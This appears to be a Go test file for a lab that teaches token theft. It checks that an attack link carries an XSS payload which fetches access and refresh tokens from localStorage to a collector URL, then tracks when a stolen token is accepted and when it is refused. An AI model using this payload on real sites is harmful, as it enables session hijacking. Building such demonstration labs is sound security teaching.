package main_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"
)

func decode(t *testing.T, body []byte) map[string]any {
	t.Helper()
	var said map[string]any
	if err := json.Unmarshal(body, &said); err != nil {
		t.Fatalf("%v: %s", err, body)
	}
	return said
}

// attack makes the link for a payload.
func (l lab) attack(room, payload string) (id, link string) {
	l.t.Helper()
	_, body := l.do(http.MethodPost, l.url+"/attacks", jsonText(map[string]string{"room": room, "payload": payload}), nil)
	said := decode(l.t, body)
	return said["id"].(string), said["url"].(string)
}

// The article's script is in the link as it stands there, and what it asks for
// arrives and is tried: accepted until it expires, and then refused.
func TestOneLiner(t *testing.T) {
	l := start(t, "--access-ttl", "4s")
	_, tokens := l.signIn("hybrid")
	id, link := l.attack("hybrid", "local")
	_, name, _ := strings.Cut(link, "#name=")
	script, err := url.PathUnescape(name)
	want := fmt.Sprintf(`<script>fetch("%s?access_token=" + localStorage.getItem('access_token') + "&refresh_token=" + localStorage.getItem('refresh_token'));</script>`, l.url)
	if err != nil || script != want {
		t.Errorf("the link says %q, error %v", script, err)
	}
	room := strings.TrimSuffix(l.room("hybrid"), "/")
	l.do(http.MethodGet, fmt.Sprintf("%s?access_token=%s&refresh_token=null", l.url, tokens["access_token"]), "", http.Header{"Origin": {room}})
	found := l.until(func(s state) bool {
		return len(s.Attacks) == 1 && len(s.Attacks[0].Loot) == 1 && len(s.Attacks[0].Loot[0].Trials) == 1 && s.Attacks[0].Loot[0].Trials[0].Refused != nil
	}).Attacks[0]
	if found.ID != id || !found.Done || !slices.Equal(found.Takes, []string{"access"}) {
		t.Errorf("the lab says %+v", found)
	}
	token := found.Loot[0]
	trial := token.Trials[0]
	if trial.Accepted < 2 || trial.Code != "invalid_token" || trial.Last.After(token.Expires.Add(time.Second)) || trial.Refused.Before(token.Expires) {
		t.Errorf("it was accepted and refused like this: %+v", token)
	}
}

// The desk is open to every page on this machine, and so to nonsense.
func TestDeskTakesNonsense(t *testing.T) {
	l := start(t)
	id, _ := l.attack("local", "fetch")
	for _, body := range []string{"", "eyJ", "eyJ.eyJ.x", "eyJhbGciOiJub25lIn0.eyJ9.x", `{"did":1}`, strings.Repeat("x", 1<<20), "\xff\x00"} {
		l.do(http.MethodPost, l.url+"/loot/"+id, body, nil)
		l.do(http.MethodPost, l.url+"/loot/unknown", body, nil)
	}
	for _, body := range []string{"", "{}", `{"room":"local"}`, `{"room":"local","payload":"none"}`} {
		if res, _ := l.do(http.MethodPost, l.url+"/attacks", body, nil); res.StatusCode < 400 {
			t.Errorf("an attack like %q: %d", body, res.StatusCode)
		}
	}
	if attacks := l.until(func(state) bool { return true }).Attacks; len(attacks) != 1 || len(attacks[0].Loot) != 0 {
		t.Errorf("the lab has found something in it: %+v", attacks)
	}
}
